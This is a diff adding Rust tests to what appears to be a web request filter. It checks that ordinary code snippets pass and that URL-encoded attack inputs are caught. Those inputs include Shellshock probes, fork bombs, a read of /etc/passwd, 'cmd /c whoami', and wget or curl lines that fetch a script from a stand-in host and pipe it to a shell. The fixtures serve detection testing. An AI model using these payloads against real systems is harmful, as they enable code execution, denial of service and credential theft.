@@ -1026,3 +1026,48 @@ fn template_substitutions_in_quoted_code_are_read() {
         assert!(post_rule(JSON, &body).is_some(), "{text}");
     }
 }
+
+/// Code of other languages the shell cannot parse (`ls = os.listdir()`,
+/// `fn main() {`): a `(` glued after a word that is not a command's first
+/// is a syntax error, and a shell runs nothing of such a line or
+/// substitution. Shellshock's `() {` opens a value (or follows `=` or a
+/// quote), and a function is defined in a command's place.
+#[test]
+fn code_the_shell_cannot_parse_passes() {
+    const JSON: &str = "application/json";
+    for text in [
+        "Thanks! The key was `ls = os.listdir(folder)` instead of `glob`.",
+        "Every Rust binary starts at `fn main() {}`, and a library has none.",
+        "In Kotlin: `fun main() { println(1) }` and in Go `func main() { run() }`.",
+        "fn main() {\n    let args = std::env::args();\n}",
+    ] {
+        let body = format!(r#"{{"comment": {}}}"#, serde_json::to_string(text).unwrap());
+        assert_eq!(post_rule(JSON, &body), None, "{text}");
+    }
+    // A Dockerfile's `CMD [...]` runs no Windows command line.
+    let dockerfile = "```dockerfile\nFROM node:20\nRUN npm ci\nCMD [\"node\", \"server.js\"]\n```";
+    let body = format!(r#"{{"comment": {}}}"#, serde_json::to_string(dockerfile).unwrap());
+    assert_eq!(post_rule(JSON, &body), None);
+}
+
+#[test]
+fn shell_code_around_unparsable_pieces_is_found() {
+    for target in [
+        // Shellshock and fork bombs.
+        "/?x=()%20%7B%20%3A%3B%20%7D%3B%20echo%20vulnerable",
+        "/?x=env%20x%3D%27()%20%7B%20%3A%3B%7D%3B%20echo%20v%27%20bash%20-c%20x",
+        "/?cmd=%3A()%7B%20%3A%7C%3A%26%20%7D%3B%3A",
+        "/?cmd=x%3Bf()%7B%20f%7Cf%26%20%7D%3Bf",
+        "/?cmd=%60function%20f()%20%7B%20f%7Cf%26%20%7D%60",
+        // A parsable command beside an unparsable piece.
+        "/?c=%60x%20%3D%20f(1)%60%3B%20cat%20/etc/passwd",
+        "/?c=%60ls%20%3D%20f()%60%20%60wget%20http://x.example/a.sh%60",
+        // Quotes, comments and `$(` make the shell read it another way.
+        "/?c=%3Bcurl%20x.example/a%7Csh%20%23%20f()",
+        "/?c=echo%20%22f()%22%3B%20wget%20http://x.example/a.sh",
+        "/?c=%24(wget%20http://x.example/a.sh)%20f()",
+        "/?c=cmd%20/c%20whoami",
+    ] {
+        assert!(rule_for(target).is_some(), "{target}");
+    }
+}
